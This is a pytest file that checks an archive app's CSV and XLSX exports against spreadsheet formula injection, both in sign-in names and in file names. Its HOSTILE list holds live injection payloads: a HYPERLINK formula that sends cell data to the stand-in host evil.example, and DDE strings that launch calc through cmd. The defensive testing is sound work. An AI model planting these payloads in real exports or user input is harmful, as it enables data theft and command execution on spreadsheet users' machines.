"""Exports are safe to open in a spreadsheet: no cell the archive writes from what
people typed or named (sign-in names, file names) can run as a formula."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask

from archive.accounts import User
from archive.facade import Archive
from archive.settings import Settings
from archive.spreadsheet import safe_cell
from ingest import service
from ingest.import_report import write_report
from tests.web.conftest import Auth, make_app

ROOT = Path(__file__).resolve().parents[2]
LINK = '=hyperlink("http://evil.example/?"&a1,"x")'
# What OWASP and ASVS 1.2.10 name, and the same signs behind spaces or in full width.
HOSTILE = [
    LINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\u00a0=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1",
    "－1",
    "＠SUM(1)",
]


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet may read as a formula: a sign first, also behind blanks or in
    full width, or a control character first."""
    if cell[:1] in ("\t", "\r", "\n", "\x00"):
        return True
    stripped = cell.lstrip()
    return bool(stripped) and unicodedata.normalize("NFKC", stripped[:1]) in ("=", "+", "-", "@")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_is_neutralised(value: str) -> None:
    # Marked, and without the control characters no workbook can carry.
    assert safe_cell(value) == "'" + value.replace("\x00", "")


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "85/QĐ-SNV", "qd-1.txt", "", "'=1", 2015])
def test_plain_values_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


@pytest.fixture
def web(file_settings: Settings) -> Iterator[Flask]:
    app = make_app(file_settings)
    yield app
    app.extensions["hoso.archive"].close()


def test_a_hostile_sign_in_name_is_inert_in_the_audit_export(web: Flask) -> None:
    client = web.test_client()
    names = [LINK, '\x00=hyperlink("http://evil.example")', "＝hyperlink(1)", "@sum(1)"]
    for name in names:
        assert Auth(client).signin(name, "sai-mat-khau").status_code == 401
    Auth(client).signin("admin")
    export = client.get("/audit/export.csv")
    assert export.status_code == 200
    written = cells(export.get_data(as_text=True))
    assert [c for c in written if runs_as_formula(c)] == []
    for name in names:
        assert "'" + name.replace("\x00", "") in written


def test_hostile_file_names_are_inert_in_the_import_report(
    file_archive: Archive, tmp_path: Path
) -> None:
    box = tmp_path / "hop"
    box.mkdir()
    names = ["-2+3.txt", "=1+1.txt", "@cmd.txt", "+1.txt", "  =1+1.txt", "＝1+1.txt"]
    for i, name in enumerate(names):
        (box / name).write_text(f"Quyết định số {i + 1}/QĐ-UBND về khen thưởng", "utf-8")
    archivist = User("lan", "Nguyễn Thị Lan", "archivist")
    run = service.importer(file_archive, archivist, box).run()
    report = write_report(tmp_path / "bao-cao.csv", run)
    written = cells(report.read_text(encoding="utf-8-sig"))
    assert [c for c in written if runs_as_formula(c)] == []
    assert {"'" + name for name in names} <= set(written)


WRITERS = re.compile(r"csv\.writer\(|DictWriter\(|xlsxwriter|Workbook\(")


def test_every_spreadsheet_writer_goes_through_safe_row() -> None:
    """A new CSV or XLSX export cannot skip archive/spreadsheet.py unnoticed."""
    writers = [
        path
        for package in ("archive", "ingest", "web", "cli", "search", "storage")
        for path in sorted((ROOT / package).rglob("*.py"))
        if WRITERS.search(path.read_text(encoding="utf-8"))
        and "load_workbook" not in path.read_text(encoding="utf-8")  # readers only
    ]
    assert {p.relative_to(ROOT).as_posix() for p in writers} >= {
        "archive/audit.py",
        "ingest/import_report.py",
    }
    for path in writers:
        source = path.read_text(encoding="utf-8")
        assert "from archive.spreadsheet import" in source, f"{path} writes cells unchecked"


def test_control_characters_in_a_document_never_break_an_xlsx_export(web: Flask) -> None:
    """A document's text may hold control characters a workbook cannot carry; one such
    document must not turn every export it appears in into a 500."""
    from openpyxl import load_workbook

    from tests.samples import decision

    text = decision(3).replace("Về việc", "Về\x02 việc\x1b", 1)
    client = web.test_client()
    Auth(client).signin("archivist")
    upload = {"file": (io.BytesIO(text.encode("utf-8")), "qd-dieu-khien.txt")}
    answer = client.post("/upload/file", data=upload, headers={"Accept": "application/json"})
    assert answer.status_code == 201, answer.get_data(as_text=True)
    with client.get("/search/export", query_string={"q": "", "format": "xlsx"}) as exported:
        assert exported.status_code == 200
        sheet = load_workbook(io.BytesIO(exported.data)).active
    values = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert any("Về việc" in v for v in values)
    assert not any(re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", v) for v in values)
    # A name typed with a control character becomes a sheet's name too.
    history = client.get("/reports/history/export.xlsx", query_string={"person": "a\x01b/c"})
    assert history.status_code in (200, 404), history.status_code
    history.close()


def test_a_sheet_name_is_what_a_workbook_accepts() -> None:
    from archive.spreadsheet import sheet_name

    assert sheet_name("Nguyễn Văn [A]: 1/2*?\\\x01") == "Nguyễn Văn  A   1 2"
    assert sheet_name("x" * 40) == "x" * 31
    assert sheet_name("[]:*?/\\") == "Bảng"
